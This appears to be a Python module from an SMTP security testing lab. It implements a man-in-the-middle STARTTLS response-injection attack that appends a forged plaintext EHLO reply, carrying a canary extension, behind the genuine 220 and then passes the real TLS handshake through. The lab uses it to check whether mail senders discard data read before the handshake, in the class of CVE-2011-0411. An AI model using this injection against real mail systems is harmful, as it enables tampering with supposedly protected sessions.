"""inject_response: a forged reply is glued behind the 220, in clear, to be taken for one from inside TLS.

On the wire: STARTTLS reaches the receiver, and its 220 reaches the sender in one segment with a forged EHLO reply
behind it, which offers X-INJECTED and no STARTTLS. Then the genuine handshake passes through unread, with the
receiver's own valid certificate: the attacker holds no key and cannot read the message. A sender that keeps what it
had read before TLS takes the forged reply for the answer to its second EHLO, and from then on every answer for the
one before.

What it proves: whether the sender throws away everything it has read before the handshake (RFC 3207, section 4.2;
CVE-2011-0411 and its kin on the client's side).

A careful sender ignores the forged lines and delivers inside TLS, or gives up the session and tries again.
"""

from __future__ import annotations

from lab.attacks.attack import Parameters, SmtpAttack
from lab.attacks.session import Line, Script, Session
from lab.attacks.smtp import Reply, reply
from lab.model import AttackForm

#: The extension that no host of the lab offers: who behaves as if it did has read the forged reply.
CANARY_EXTENSION = "X-INJECTED"


def _forged_ehlo(host: str) -> Reply:
    return reply(250, host, "8BITMIME", CANARY_EXTENSION)


def play(session: Session, parameters: Parameters) -> Script:
    """Relay, with a forged reply behind the 220, and let the TLS behind it through."""
    yield from session.relay_greeting()
    while (command := (yield from session.read_command())) is not None:
        if command.verb != "STARTTLS":
            if (yield from session.relay(command)) is None:
                return
            continue
        genuine = yield from session.ask(command)
        if genuine is None:
            return
        if genuine.code != "220":
            yield from session.answer([Line(line) for line in genuine.lines])
            continue
        detail = "glued a forged EHLO reply behind the 220"
        yield from session.answer_with_more(genuine, _forged_ehlo(session.host), detail)
        if (yield from session.handshake_follows()):
            yield from session.pipe()
        else:
            yield from _refuse_the_rest(session)
        return


def _refuse_the_rest(session: Session) -> Script:
    """Hear out a sender that goes on in clear behind the 220. The receiver waits for TLS and could not answer it."""
    while (yield from session.read_command()) is not None:
        yield from session.speak(reply(503, "5.5.1 TLS was to be started"))


ATTACK = SmtpAttack(
    AttackForm("inject_response", "smtp", "glues a forged EHLO reply behind the 220, then lets TLS through"),
    play,
)
